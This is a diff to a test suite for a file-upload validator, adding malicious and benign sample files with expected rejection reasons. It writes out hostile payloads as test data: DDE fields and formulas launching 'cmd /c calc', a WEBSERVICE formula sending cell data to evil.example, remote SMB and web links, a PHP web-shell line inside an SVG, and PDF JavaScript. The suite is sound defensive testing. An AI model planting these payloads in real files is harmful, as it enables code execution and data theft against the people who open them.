@@ -21,6 +21,7 @@ from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringO
 from reportlab.pdfgen import canvas
 
 from broker.domain.profiles import Profiles, load_profiles
+from tests import writers
 from tests.videos import box, encoded, streamed_webm, tiny_mp4
 
 DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
@@ -60,6 +61,13 @@ visibility = "private"
 max_size = "1 MiB"
 csv_formulas = "neutralize"
 [sheet.types]
+"text/csv" = ["csv"]
+
+[legacy_sheet]
+visibility = "private"
+max_size = "1 MiB"
+text_encodings = ["utf-8", "utf-16", "windows-1252"]
+[legacy_sheet.types]
 "text/csv" = ["csv"]
 """
 
@@ -490,8 +498,17 @@ ATTACKS: list[Sample] = [
            lambda: csv_rows("a,b", "x" * 200_000 + ",=1+1"), "formula_injection"),
     Sample("Latin-1 text", D, "a.txt", "text/plain",
            lambda: "café, naïve, façade\n".encode("latin-1") * 4, "invalid_text"),
-    Sample("UTF-16 text", D, "a.txt", "text/plain",
-           lambda: "hello wörld\n".encode("utf-16") * 4, "invalid_text"),
+    Sample("UTF-16 text without a byte order mark", D, "a.txt", "text/plain",
+           lambda: "hello wörld\n".encode("utf-16-le") * 4, "type_mismatch"),
+    Sample("UTF-32 CSV", D, "a.csv", "text/csv", lambda: writers.csv_as("utf-32"),
+           "invalid_text"),
+    Sample("Windows-1252 CSV where the profile takes UTF only", D, "a.csv", "text/csv",
+           lambda: writers.csv_as("cp1252"), "invalid_text"),
+    Sample("UTF-16 CSV with a formula", D, "a.csv", "text/csv",
+           lambda: writers.csv_as("utf-16", "a,b\r\n=HYPERLINK(\"https://evil.example\")\r\n"),
+           "formula_injection"),
+    Sample("Windows-1252 CSV with a formula", "legacy_sheet", "a.csv", "text/csv",
+           lambda: writers.csv_as("cp1252", "Zoë;=cmd|' /C calc'!A0\r\n"), "formula_injection"),
     Sample("text with a NUL byte past the first 64 KiB", D, "a.txt", "text/plain",
            lambda: TEXT_70K + b"\0tail\n", "invalid_text"),
     # Videos: spoofed, truncated, with something riding along.
@@ -526,6 +543,90 @@ ATTACKS: list[Sample] = [
            lambda: tiny_mp4(boxes=[box(b"moov", bytes(50)),
                                    struct.pack(">I4s", 2**32 - 1, b"mdat") + bytes(100)]),
            "malformed"),
+    # What real files showed: attachments anywhere in a PDF.
+    Sample("PDF with a program in a file attachment annotation", D, "a.pdf",
+           "application/pdf", lambda: writers.pdf_attachment_annotation(PE, "setup.exe"),
+           "active_content"),
+    Sample("PDF with a web page in a file attachment annotation", D, "a.pdf",
+           "application/pdf", lambda: writers.pdf_attachment_annotation(HTML, "open.html"),
+           "active_content"),
+    Sample("PDF with an embedded file stream nothing points to", D, "a.pdf",
+           "application/pdf", lambda: writers.pdf_orphan_embedded_file(PE), "active_content"),
+    Sample("PDF with an attachment added in an incremental update", D, "a.pdf",
+           "application/pdf", lambda: writers.pdf_updated(writers.attach(PE, "x.exe")),
+           "active_content"),
+    Sample("PDF whose later revision hides an earlier attachment", D, "a.pdf",
+           "application/pdf", lambda: writers.pdf_updated(writers.attach(PE, "x.exe"),
+                                                          writers.drop_attachments),
+           "active_content"),
+    Sample("PDF with JavaScript inside a compressed object stream", D, "a.pdf",
+           "application/pdf", lambda: writers.pdf_object_stream(
+               b"<< /S /JavaScript /JS (app.alert(1)) >>"), "active_content"),
+    Sample("PDF behind an owner password that runs a script", D, "a.pdf", "application/pdf",
+           writers.pdf_owner_password_with_javascript, "active_content"),
+    Sample("PDF with arrays nested 5,000 deep", D, "a.pdf", "application/pdf",
+           writers.pdf_deep_nesting, "malformed"),
+    # Office files that act on opening or fetch from elsewhere, in any part.
+    Sample("DOCX with a DDEAUTO field split over runs", D, "a.docx", DOCX,
+           lambda: writers.docx_with_field([" DDE", "AUTO c:\\windows\\system32\\cmd.exe",
+                                            ' "/k calc.exe" ']), "active_content"),
+    Sample("DOCX with a DDE field in a header", D, "a.docx", DOCX,
+           lambda: writers.docx_with_field([' DDE cmd "/c calc" '], part="word/header1.xml"),
+           "active_content"),
+    Sample("DOCX with a simple DDE field", D, "a.docx", DOCX,
+           lambda: writers.docx_with_simple_field(' DDEAUTO cmd "/c calc" '), "active_content"),
+    Sample("DOCX that includes a remote picture", D, "a.docx", DOCX,
+           lambda: writers.docx_with_field([' INCLUDEPICTURE "https://evil.example/p.png" ']),
+           "active_content"),
+    Sample("DOCX with an external image relationship", D, "a.docx", DOCX,
+           lambda: writers.docx_with_relationship("image", "https://evil.example/p.png"),
+           "active_content"),
+    Sample("XLSX with a DDE formula", D, "a.xlsx", XLSX,
+           lambda: writers.xlsx_workbook("=cmd|'/c calc'!A0"), "active_content"),
+    Sample("XLSX with a WEBSERVICE formula", D, "a.xlsx", XLSX,
+           lambda: writers.xlsx_workbook('=WEBSERVICE("https://evil.example/?"&A1)'),
+           "active_content"),
+    Sample("XLSX linked to a workbook on an SMB share", D, "a.xlsx", XLSX,
+           lambda: writers.xlsx_with_external_link("file:///\\\\evil\\share\\book.xlsx"),
+           "active_content"),
+    Sample("XLSX linked to a workbook on a web server", D, "a.xlsx", XLSX,
+           lambda: writers.xlsx_with_external_link("https://evil.example/book.xlsx"),
+           "active_content"),
+    Sample("XLSX with a DDE link part", D, "a.xlsx", XLSX, writers.xlsx_with_dde_link,
+           "active_content"),
+    Sample("DOCX from Word for Mac declared as XLSX", D, "a.xlsx", XLSX,
+           writers.mac_word_docx, "type_mismatch"),
+    # SVG: processing instructions and DTDs.
+    Sample("SVG with a remote xml-stylesheet", "drawing", "a.svg", SVG,
+           lambda: writers.svg_with_prolog(
+               '<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>'),
+           "active_content"),
+    Sample("SVG with a remote xml-stylesheet, sanitizing profile", "sanitized_drawing",
+           "a.svg", SVG, lambda: writers.svg_with_prolog(
+               '<?xml-stylesheet href="https://evil.example/x.css"?>'), "active_content"),
+    Sample("SVG with a PHP processing instruction", "drawing", "a.svg", SVG,
+           lambda: writers.svg_with_prolog("<?php system($_GET['c']); ?>"), "active_content"),
+    Sample("SVG whose internal subset adds an onload attribute", "drawing", "a.svg", SVG,
+           lambda: writers.svg_with_prolog(
+               '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'), "malformed"),
+    Sample("SVG naming a DTD on another host", "drawing", "a.svg", SVG,
+           lambda: writers.svg_with_prolog('<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">'),
+           "active_content"),
+    # Images: a page in an XML-looking metadata block is still a page.
+    Sample("JPEG with an HTML page in its Photoshop segment", A, "a.jpg", "image/jpeg",
+           lambda: writers.jpeg_with_app_segment(0xED, b"Photoshop 3.0\0<!DOCTYPE html><p>"),
+           "polyglot"),
+    Sample("JPEG with script inside its XMP", A, "a.jpg", "image/jpeg",
+           lambda: writers.xmp_jpeg(b"<script>alert(1)</script>"), "polyglot"),
+    # Containers whose inner sizes do not hold together.
+    Sample("Matroska with an element overrunning its parent", V, "a.mkv", "video/x-matroska",
+           lambda: writers.matroska_with_child(0x4D80, b"writer", child_size=400), "malformed"),
+    Sample("Matroska with a tag overrunning its parent two levels down", V, "a.mkv",
+           "video/x-matroska", lambda: writers.matroska_with_child(
+               0x7373, writers.ebml_element(0x63C0, b"", size=90)), "malformed"),
+    Sample("MP4 with a track box overrunning the movie box", V, "a.mp4", "video/mp4",
+           lambda: tiny_mp4(boxes=[box(b"moov", struct.pack(">I4s", 500, b"trak")
+                                       + bytes(20)), box(b"mdat", bytes(100))]), "malformed"),
     # Known malware inside allowed types (needs clamd).
     Sample("EICAR as a text file", D, "eicar.txt", "text/plain", lambda: EICAR, "malware",
            scanner=True),
@@ -599,6 +700,40 @@ BENIGN: list[Sample] = [
     Sample("Matroska (H.264, FLAC)", V, "clip.mkv", "video/x-matroska",
            lambda: encoded("mkv"), None, encoder=True),
     Sample("hand-built MP4 of three boxes", V, "tiny.mp4", "video/mp4", tiny_mp4, None),
+    # What real files showed: traits of the programs people use.
+    Sample("DOCX from Word for Mac (docProps first)", D, "minutes.docx", DOCX,
+           writers.mac_word_docx, None),
+    Sample("XLSX with folder entries first", D, "budget.xlsx", XLSX,
+           writers.folders_first_xlsx, None),
+    Sample("DOCX with page-number fields and a hyperlink", D, "report.docx", DOCX,
+           lambda: writers.docx_with_field([" PAGE ", r"\* MERGEFORMAT "]), None),
+    Sample("DOCX with an external hyperlink relationship", D, "links.docx", DOCX,
+           lambda: writers.docx_with_relationship("hyperlink", "https://example.com/"), None),
+    Sample("XLSX with an ordinary formula and a pipe in a string", D, "sums.xlsx", XLSX,
+           lambda: writers.xlsx_workbook('=SUM(B2:B3)&" | total"'), None),
+    Sample("JPEG with Photoshop's print settings (a property list)", A, "print.jpg",
+           "image/jpeg", writers.photoshop_jpeg, None),
+    Sample("JPEG with Photoshop's XMP packet", A, "photo.jpg", "image/jpeg", writers.xmp_jpeg,
+           None),
+    Sample("PDF report of 137 pages and about 12,500 objects", D, "report.pdf",
+           "application/pdf", writers.long_report, None),
+    Sample("PDF protected by an owner password only", D, "signed.pdf", "application/pdf",
+           writers.pdf_owner_password_only, None),
+    Sample("PDF with a harmless compressed object stream", D, "packed.pdf", "application/pdf",
+           lambda: writers.pdf_object_stream(b"<< /Producer (LibreOffice) >>"), None),
+    Sample("SVG from Illustrator (SVG 1.1 DOCTYPE)", "drawing", "logo.svg", SVG,
+           writers.illustrator_svg, None),
+    Sample("SVG from Illustrator (SVG 1.0 DOCTYPE), sanitized", "sanitized_drawing",
+           "logo.svg", SVG, lambda: writers.illustrator_svg(writers.SVG10_DOCTYPE), None),
+    Sample("SVG from Inkscape", "drawing", "drawing.svg", SVG, writers.inkscape_svg, None),
+    Sample("UTF-16 CSV from a spreadsheet", D, "people.csv", "text/csv",
+           lambda: writers.csv_as("utf-16"), None),
+    Sample("UTF-16 text with a byte order mark", D, "notes.txt", "text/plain",
+           lambda: "hello wörld\n".encode("utf-16") * 4, None),
+    Sample("Windows-1252 CSV where the profile takes it", "legacy_sheet", "people.csv",
+           "text/csv", lambda: writers.csv_as("cp1252"), None),
+    Sample("Matroska with nested tags that fit", V, "tagged.mkv", "video/x-matroska",
+           lambda: writers.matroska_with_child(0x4D80, b"writer"), None),
 ]
 
 
